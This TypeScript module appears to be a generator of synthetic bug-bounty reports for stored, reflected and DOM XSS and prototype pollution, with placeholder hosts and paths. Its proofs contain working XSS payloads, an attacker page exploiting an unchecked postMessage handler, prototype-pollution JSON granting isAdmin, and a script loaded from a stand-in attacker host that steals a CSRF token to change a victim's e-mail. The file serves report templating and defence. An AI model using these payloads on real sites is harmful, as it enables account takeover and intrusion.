import type { VulnerabilityClass } from './vulnerability-class.ts'

const storedXss: VulnerabilityClass = {
  key: 'stored-xss',
  type: 'Cross-site scripting, stored',
  cwe: 79,
  weight: 8,
  surfaces: ['web', 'mobile'],
  shape: 'script',
  severities: [
    ['High', 4],
    ['Medium', 6],
    ['Low', 1],
  ],
  places: [
    { method: 'POST', path: '«collection»', parameter: '«textField»', detail: 'the list of «many»' },
    {
      method: 'PATCH',
      path: '«collection»/{id}',
      parameter: '«textField»',
      detail: 'the print view of a «one»',
    },
    { method: 'POST', path: '«api»/attachments', parameter: 'filename', detail: 'the activity feed' },
    {
      method: 'PUT',
      path: '«api»/profile',
      parameter: 'displayName',
      detail: 'the page of every «staffRole»',
    },
    { method: 'POST', path: '«api»/import/csv', parameter: 'column header', detail: 'the import preview' },
  ],
  titles: [
    'Stored XSS in the `«parameter»` of a «one» runs for every «staffRole»',
    'Stored XSS via `«parameter»` in «detail»',
    'Persistent cross-site scripting: «one» → «detail» on «host»',
    'Blind XSS fired in the back office through `«parameter»`',
    'Stored XSS in `«parameter»`, needs one click',
  ],
  summaries: [
    'The `«parameter»` of a «one» is shown without encoding in «detail». A script in it runs in the session of whoever opens that page, «staffRole»s included.',
    'HTML in `«parameter»` survives saving and is executed in «detail». No interaction is needed apart from opening the page.',
    'I saved a payload in `«parameter»` and a day later it fired in an internal page: a «staffRole» had opened my «one».',
  ],
  steps: [
    [
      'As `«me»` create a «one».',
      'Set `«parameter»` to the payload below and save. The form refuses `<`, the API does not.',
      'As another user of the same team (`«victim»`) open «detail».',
      'The dialog shows `«host»`, so the script runs in the main origin.',
    ],
    [
      'Send the request below.',
      'Open «detail» with another account.',
      'Watch the console: `xss «handle»` is printed.',
      'Reload: it is stored, it fires each time.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Storing the payload:',
        lang: 'http',
        code: `«method» «path» HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"«parameter»":"<img src=x onerror=\\"alert(document.domain)\\">"}

HTTP/2 200
Content-Type: application/json

{"id":«idJson»,"«parameter»":"<img src=x onerror=\\"alert(document.domain)\\">"}`,
      },
      {
        say: 'What arrives in the page, unchanged:',
        lang: 'html',
        code: `<td class="cell cell--text"><span><img src=x onerror="alert(document.domain)"></span></td>`,
      },
    ],
    [
      {
        say: 'A payload that does something, without `alert`. It reads the anti-forgery token and changes the e-mail address of the victim:',
        lang: 'js',
        code: `// stored in «parameter» as <svg onload="import('https://«attacker»/x.js')">
const page = await (await fetch('/settings')).text()
const token = page.match(/name="csrf" value="([^"]+)"/)[1]
await fetch('/settings/email', {
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams({ csrf: token, email: '«me»' }),
})`,
      },
    ],
    [
      {
        say: 'The callback of the blind payload (session cut):',
        lang: 'text',
        code: `2026-11-18 14:03:51  fired on https://«host»/backoffice/«segment»/«id»
user agent   Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/142
origin       https://«host»
referrer     https://«host»/backoffice/queue?filter=open
cookies      «cookieName»=****** (not HttpOnly)`,
      },
    ],
  ],
  impacts: [
    'Script in the session of a «staffRole»: it can read «secrets» of every «customer» and act in their name. The cookie is not even needed for that.',
    'Account takeover of everybody who opens «detail». With the payload in a «one» that is shared, it spreads by itself.',
    'An attacker without any rights reaches the back office, from where all «many» are visible.',
  ],
  fixes: [
    'Encode on output; `dangerouslySetInnerHTML` is used here only because of line breaks, which CSS can do.',
    'Escape in the template, and add a content security policy without `unsafe-inline` so that the next one does not fire.',
  ],
  notes: [
    'Fires in the print view only, the list is fine. The view is rendered by the old template engine without auto-escape.',
    'CSP blocks inline handlers on this page since release 241, but `script-src` has the CDN with JSONP on it. So still exploitable, keep.',
    'Reproduced with two users of one team. Across tenants it does not work, Medium.',
  ],
}

const reflectedXss: VulnerabilityClass = {
  key: 'reflected-xss',
  type: 'Cross-site scripting, reflected',
  cwe: 79,
  weight: 7,
  surfaces: ['web'],
  shape: 'script',
  severities: [
    ['High', 1],
    ['Medium', 7],
    ['Low', 2],
  ],
  places: [
    { path: '/search', parameter: 'q' },
    { path: '/error', parameter: 'message' },
    { path: '/«segment»/print', parameter: 'back' },
    { path: '/login', parameter: 'returnTo' },
    { path: '/embed/widget.js', parameter: 'callback' },
  ],
  titles: [
    'Reflected XSS on «host»«path» through `«parameter»`',
    'XSS in `«parameter»` (filter bypass with an SVG animation)',
    'Reflected cross-site scripting at «path», works in all current browsers',
    'Unquoted attribute → XSS in «path»?«parameter»=',
  ],
  summaries: [
    '`«parameter»` is written into the page of `«path»` without encoding. A link is enough to run a script in the origin of «host».',
    'The filter in front of `«path»` takes out `script` and `onerror`, but not every event handler. The payload below passes.',
  ],
  steps: [
    ['Sign in to «host».', 'Open the address below in the same browser («browser»).', 'The dialog appears.'],
    [
      'Look where `«parameter»` lands: inside a `value` attribute, with single quotes.',
      'Single quotes are not encoded, so the attribute can be closed.',
      'Open the address and press Tab once, or use the second payload, which needs nothing.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Address:',
        lang: 'text',
        code: `https://«host»«path»?«parameter»=%27%3E%3Csvg%3E%3Canimate%20onbegin%3Dalert(document.domain)%20attributeName%3Dx%20dur%3D1s%3E`,
      },
      {
        say: 'In the page:',
        lang: 'html',
        code: `<input type='text' name='«parameter»' value=''><svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>'>`,
      },
    ],
    [
      {
        say: 'Request and answer:',
        lang: 'http',
        code: `GET «path»?«parameter»=%22autofocus%20onfocus%3Dalert(1)%20x%3D%22 HTTP/2
Host: «host»

HTTP/2 200
Content-Type: text/html; charset=utf-8

…<a class="back" href=""autofocus onfocus=alert(1) x="">Back</a>…`,
      },
    ],
  ],
  impacts: [
    'Whoever follows a link on the real domain runs the attacker’s script: reading «many», changing settings, asking for the password in a form that looks right.',
    'Session riding in the name of the victim. The cookie is `HttpOnly`, so it cannot be read, but the script does not need it.',
  ],
  fixes: ['Encode for the attribute context, quotes included. Filtering words is a race that cannot be won.'],
  notes: [
    'Works in Chrome 142 and Firefox 145. WAF catches it from outside our network in about half of the tries.',
    'Only reachable when signed out, and the page has no session. Lowered.',
  ],
}

const domXss: VulnerabilityClass = {
  key: 'dom-xss',
  type: 'Cross-site scripting, DOM',
  cwe: 79,
  weight: 4,
  surfaces: ['web'],
  shape: 'script',
  severities: [
    ['High', 2],
    ['Medium', 6],
    ['Low', 1],
  ],
  places: [
    { path: '/#/«segment»', parameter: 'location.hash', detail: 'innerHTML' },
    { path: '/checkout/complete', parameter: 'postMessage', detail: 'eval' },
    { path: '/help', parameter: 'window.name', detail: 'document.write' },
    { path: '/«segment»/preview', parameter: 'localStorage.draft', detail: 'insertAdjacentHTML' },
  ],
  titles: [
    'DOM XSS: `«parameter»` flows into `«detail»` on «path»',
    'DOM-based XSS on «host» through `«parameter»`',
    '`«detail»` with `«parameter»` → script in the origin of «host»',
  ],
  summaries: [
    'The page script of `«path»` takes `«parameter»` and hands it to `«detail»`. The server never sees the payload, so no filter helps.',
    'A handler on «path» trusts `«parameter»`, which another site decides. It ends in `«detail»`.',
  ],
  steps: [
    [
      'Open the page of the attacker below in a browser that is signed in to «host».',
      'It opens `«path»` in a window and hands over the payload.',
      'The dialog shows the origin.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The code as it is delivered, made readable:',
        lang: 'js',
        code: `// app.«n»f2c91.js, line 1 column 48213
window.addEventListener('message', (event) => {
  // event.origin is not looked at
  const { html, target } = event.data
  document.querySelector(target).innerHTML = html
})`,
      },
      {
        say: 'Page of the attacker:',
        lang: 'html',
        code: `<script>
  const view = open('https://«host»«path»')
  setTimeout(() => view.postMessage({ target: 'body', html: '<img src=x onerror=alert(origin)>' }, '*'), 2500)
</script>`,
      },
    ],
    [
      {
        say: 'Source and sink, from the debugger:',
        lang: 'text',
        code: `source  «parameter»                 router.js:212
   ->   decodeURIComponent(...)     router.js:219
   ->   template(title)             view.js:88
sink    «detail»                  view.js:91`,
      },
    ],
  ],
  impacts: [
    'Same as any script in this origin: all that the signed-in «customer» can do, the script can do.',
    'Nothing shows in the logs of the server, which makes it hard to notice.',
  ],
  fixes: [
    'Check `event.origin` against a list and use `textContent`.',
    'Use `textContent`, or a sanitizer with trusted types switched on.',
  ],
  notes: [
    'Confirmed in a debugger, sink is in the vendored chat widget. Vendor has a fixed version since October.',
  ],
}

const prototypePollution: VulnerabilityClass = {
  key: 'prototype-pollution',
  type: 'Prototype pollution',
  cwe: 1321,
  weight: 2,
  surfaces: ['web', 'api', 'code'],
  shape: 'write',
  severities: [
    ['High', 5],
    ['Medium', 5],
  ],
  places: [
    { method: 'PATCH', path: '«api»/preferences', parameter: '__proto__', detail: 'deepMerge' },
    { method: 'POST', path: '«collection»/query', parameter: 'constructor.prototype', detail: 'setByPath' },
    { path: '/?__proto__[x]=1', parameter: '__proto__', detail: 'the query parser' },
  ],
  titles: [
    'Prototype pollution through `«parameter»` in «path»',
    'Server-side prototype pollution («detail») bypasses the admin check',
    'Polluting Object.prototype via «method» «path» changes answers for all users',
  ],
  summaries: [
    '«Detail» copies `«parameter»` from the body. Afterwards every object in the process has the member, among them the options that decide on rights.',
    'With `«parameter»` in the JSON the prototype of all objects is changed until the process restarts. I used a member without effect for the proof.',
  ],
  steps: [
    [
      'Send the first request with `json spaces` set on the prototype.',
      'Any answer of the service is now indented: the prototype was changed.',
      'Send the last request to set it back. Please restart the process all the same.',
    ],
  ],
  proofs: [
    [
      {
        say: 'A harmless gadget that can be seen from outside:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"theme":"dark","__proto__":{"json spaces":7}}

HTTP/1.1 200 OK
Content-Type: application/json

{
       "theme": "dark"
}`,
      },
    ],
    [
      {
        say: 'In the library, with its own test runner:',
        lang: 'js',
        code: `import { deepMerge } from '«slug»-utils'

deepMerge({}, JSON.parse('{"__proto__":{"isAdmin":true}}'))
console.log(({}).isAdmin)   // true`,
      },
    ],
  ],
  impacts: [
    'The check `if (user.isAdmin)` is true for everybody after one request. It stays so until the restart and concerns all users of the process.',
    'Rights, template options and child process options are read from plain objects: from here it is a short way to code execution. I did not go there.',
  ],
  fixes: [
    'Refuse `__proto__`, `constructor` and `prototype` when merging, or merge into objects without a prototype.',
  ],
  notes: [
    'Seen the indentation myself. Pods restarted. The gadget for isAdmin exists in the permission helper, so High.',
  ],
}

export const scriptingClasses: readonly VulnerabilityClass[] = [
  storedXss,
  reflectedXss,
  domXss,
  prototypePollution,
]
